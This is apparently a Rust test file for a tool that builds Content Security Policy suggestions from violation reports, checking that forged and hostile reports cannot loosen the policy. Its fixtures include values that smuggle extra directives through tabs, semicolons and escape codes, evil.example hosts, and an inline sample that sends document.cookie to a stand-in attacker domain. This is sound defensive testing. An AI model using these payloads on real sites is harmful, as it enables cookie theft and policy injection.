//! The builder's rules, each shown on the problems that meet or fail it, and a property test
//! over hostile reports.

use super::*;

fn obs(directive: &str, blocked: &str, reports: u64) -> Observation {
    Observation {
        fingerprint: format!("{directive}{blocked}"),
        directive: directive.into(),
        blocked: blocked.into(),
        document: "https://example.com/page".into(),
        sample: None,
        classification: Some(Classification::Violation),
        reports,
        browsers: 2,
        visitors: 2,
    }
}

const ANY: Rules = Rules {
    min_reports: 1,
    min_browsers: 1,
    min_visitors: 1,
    hash_samples: false,
};

fn reasons(s: &Suggestion) -> Vec<&'static str> {
    let mut r: Vec<&str> = s.left_out.iter().map(|l| l.reason.as_str()).collect();
    r.sort();
    r
}

#[test]
fn sources_go_where_a_person_would_put_them() {
    let base = Policy::parse("default-src 'self'; script-src 'self'; report-uri /r");
    let s = suggest(
        &base,
        "example.com",
        &[
            obs("script-src-elem", "https://cdn.example.net", 9),
            obs("img-src", "data:", 5),
            obs("img-src", "https://example.com", 4),
            obs("connect-src", "https://api.example.org", 3),
            obs("worker-src", "https://w.example.org", 2),
        ],
        ANY,
    )
    .unwrap();
    assert_eq!(
        s.policy.to_string(),
        "default-src 'self'; script-src 'self' https://cdn.example.net; report-uri /r; img-src 'self' data:; connect-src 'self' https://api.example.org; worker-src 'self' https://cdn.example.net https://w.example.org"
    );
    let img = s.added.iter().find(|a| a.source == "data:").unwrap();
    assert_eq!(img.seeded_from.as_deref(), Some("default-src"));
    assert!(
        s.left_out.is_empty(),
        "the document's own origin is 'self', already there: {:?}",
        s.left_out
    );
    assert_eq!(
        diff(&s.base, &s.policy).lines().next(),
        Some("  default-src 'self'")
    );
}

#[test]
fn inline_code_becomes_a_hash_only_when_the_owner_asks_and_the_sample_is_whole() {
    let base = Policy::parse("script-src 'self' 'report-sample'");
    let mut short = obs("script-src-elem", "'unsafe-inline'", 3);
    short.sample = Some("document.title=\"ok\"".into());
    let mut long = obs("script-src-elem", "'unsafe-inline'", 3);
    long.fingerprint = "long".into();
    long.sample = Some("x".repeat(40));
    let both = [short, long];
    let s = suggest(&base, "example.com", &both, ANY).unwrap();
    assert_eq!(s.policy, base, "no hash from report text by default");
    assert_eq!(reasons(&s), ["inline_code", "unsafe_inline"]);
    let asked = Rules {
        hash_samples: true,
        ..ANY
    };
    let s = suggest(&base, "example.com", &both, asked).unwrap();
    assert!(s.policy.to_string().contains("'sha256-"), "{}", s.policy);
    assert_eq!(reasons(&s), ["unsafe_inline"]);
    assert!(!s.policy.to_string().contains("'unsafe-inline'"));
}

#[test]
fn what_is_left_out_says_why() {
    let base = Policy::parse("default-src 'self'");
    let mut allowed = obs("img-src", "https://a.example", 10);
    allowed.classification = Some(Classification::AllowedByPolicy);
    let mut foreign = obs("img-src", "https://b.example", 10);
    foreign.document = "https://proxy.example.net/example.com/".into();
    let mut one_browser = obs("img-src", "https://c.example", 10);
    one_browser.browsers = 1;
    let mut one_network = obs("img-src", "https://e.example", 1000);
    one_network.visitors = 1;
    let s = suggest(
        &base,
        "example.com",
        &[
            allowed,
            foreign,
            one_browser,
            one_network,
            obs("img-src", "https://d.example", 1),
            obs("script-src-elem", "'unsafe-eval'", 10),
            obs("require-trusted-types-for", "trusted-types-sink", 10),
            obs("script-src-elem", "trusted-types-sink", 10),
        ],
        Rules {
            min_reports: 2,
            min_browsers: 2,
            min_visitors: 2,
            hash_samples: false,
        },
    )
    .unwrap();
    assert_eq!(
        reasons(&s),
        [
            "allowed_by_policy",
            "foreign_document",
            "not_a_fetch_directive",
            "too_few_browsers",
            "too_few_reports",
            "too_few_visitors",
            "trusted_types",
            "unsafe_eval"
        ]
    );
    assert_eq!(s.policy, base);
}

#[test]
fn forged_reports_do_not_write_the_policy() {
    let base = Policy::parse(
        "default-src 'self'; object-src 'none'; frame-ancestors 'none'; form-action 'self'; base-uri 'none'; report-uri https://c.example/r/example.com",
    );
    let mut forged = vec![
        obs("script-src-elem", "https://*", 50),
        obs("script-src-elem", "http://*:*", 50),
        obs(
            "script-src-elem",
            "https://cdn.example\t'unsafe-inline'\t'unsafe-eval'",
            50,
        ),
        obs(
            "script-src-elem",
            "https://cdn.example\u{c}'unsafe-inline'",
            50,
        ),
        obs("img-src", "https://cdn.example;script-src-elem", 50),
        obs("img-src", "https://cdn3.example,script-src", 50),
        obs("img-src", "https://cdn\u{1b}[2J\u{1b}[1;1H.example", 50),
        obs("script-src-elem", "data:", 50),
        obs("script-src-elem", "blob:", 50),
        obs("object-src", "data:", 50),
        obs("worker-src", "blob:", 50),
        obs("script-src-elem", "https:", 50),
        obs("frame-ancestors", "https://evil.example", 50),
        obs("form-action", "https://evil.example", 50),
        obs("base-uri", "https://evil.example", 50),
        obs("report-uri", "https://evil.example", 50),
        obs("default-src", "https://evil.example", 50),
    ];
    let mut inline = obs("script-src-elem", "'unsafe-inline'", 50);
    inline.sample = Some("location='//e.vil/?'+document.cookie".into());
    forged.push(inline);
    let s = suggest(&base, "example.com", &forged, ANY).unwrap();
    assert_eq!(s.policy, base, "added: {:?}", s.added);
    assert_eq!(s.left_out.len(), forged.len());
    let unicode = suggest(
        &base,
        "example.com",
        &[obs("img-src", "https://例え.example", 5)],
        ANY,
    )
    .unwrap();
    assert!(
        unicode
            .policy
            .to_string()
            .contains("img-src 'self' https://xn--r8jz45g.example"),
        "{}",
        unicode.policy
    );
}

#[test]
fn three_thousand_forged_hosts_leave_the_policy_under_its_ceiling() {
    let base = Policy::parse("default-src 'self'");
    let forged: Vec<Observation> = (0..3000)
        .map(|i| obs("img-src", &format!("https://x{i}.flood.example"), 6))
        .collect();
    let s = suggest(&base, "example.com", &forged, ANY).unwrap();
    let len = s.policy.to_string().len();
    assert!(len <= MAX_POLICY_BYTES, "{len}");
    assert!(s.added.len() > 100, "what fits is still suggested");
    let too_large = s
        .left_out
        .iter()
        .filter(|l| l.reason == Reason::TooLarge)
        .count();
    assert_eq!(s.added.len() + too_large, 3000);
}

mod hostile {
    use super::*;
    use crate::policy::source::FetchDirective;
    use proptest::prelude::*;

    fn directive() -> impl Strategy<Value = String> {
        prop_oneof![
            Just("script-src-elem".to_owned()),
            Just("img-src".to_owned()),
            Just("worker-src".to_owned()),
            Just("object-src".to_owned()),
            Just("frame-ancestors".to_owned()),
            Just("report-uri".to_owned()),
            "[a-z-]{1,20}",
            "\\PC{0,12}",
        ]
    }

    fn blocked() -> impl Strategy<Value = String> {
        prop_oneof![
            "(https?|wss?|data|blob|javascript|filesystem)://[a-z0-9.*;,$'{}\\t\\x0c\\x1b -]{0,30}",
            "(https?)://\\PC{0,20}",
            "\\PC{0,24}",
            "[a-z]{1,10}:",
            Just("'unsafe-inline'".to_owned()),
            Just("'unsafe-eval'".to_owned()),
            Just("'wasm-unsafe-eval'".to_owned()),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(512))]
        /// Whatever reports say, the suggestion parses back as built, stays under its
        /// ceiling, changes only fetch directives with visible-ASCII sources, and never
        /// allows what runs arbitrary code.
        #[test]
        fn any_reports_give_a_policy_that_holds(
            items in proptest::collection::vec((directive(), blocked(), proptest::option::of("\\PC{0,45}"), 1u64..50), 0..40),
            hash_samples in any::<bool>(),
        ) {
            let base = Policy::parse("default-src 'self'; object-src 'none'; frame-ancestors 'none'; report-uri https://c.example/r");
            let observations: Vec<Observation> = items
                .into_iter()
                .enumerate()
                .map(|(i, (d, b, sample, n))| Observation {
                    fingerprint: format!("{i:016x}"),
                    sample,
                    ..obs(&d, &b, n)
                })
                .collect();
            let rules = Rules { hash_samples, ..ANY };
            let s = suggest(&base, "example.com", &observations, rules).unwrap();
            let text = s.policy.to_string();
            prop_assert!(text.len() <= MAX_POLICY_BYTES.max(base.to_string().len()));
            prop_assert_eq!(s.policy.check_parses_back(), Ok(()));
            for d in &s.policy.directives {
                let was = base.get(&d.name);
                if was != Some(d) {
                    prop_assert!(FetchDirective::parse(&d.name).is_some(), "{} changed", d.name);
                }
                for src in &d.sources {
                    prop_assert!(super::super::super::source::is_source_token(src));
                    prop_assert!(!src.contains('*'), "{}", src);
                    let lower = src.to_ascii_lowercase();
                    prop_assert!(!matches!(lower.as_str(), "'unsafe-inline'" | "'unsafe-eval'" | "https:" | "http:"), "{}", src);
                    if matches!(d.name.as_str(), "script-src" | "script-src-elem" | "worker-src" | "frame-src" | "child-src" | "object-src") {
                        prop_assert!(!matches!(lower.as_str(), "data:" | "blob:" | "filesystem:"), "{} in {}", src, d.name);
                    }
                    if !hash_samples {
                        prop_assert!(!src.starts_with("'sha256-"), "{}", src);
                    }
                }
            }
            prop_assert_eq!(s.policy.get("frame-ancestors"), base.get("frame-ancestors"));
            prop_assert_eq!(s.policy.get("report-uri"), base.get("report-uri"));
            prop_assert_eq!(s.policy.get("object-src"), base.get("object-src"));
        }
    }
}
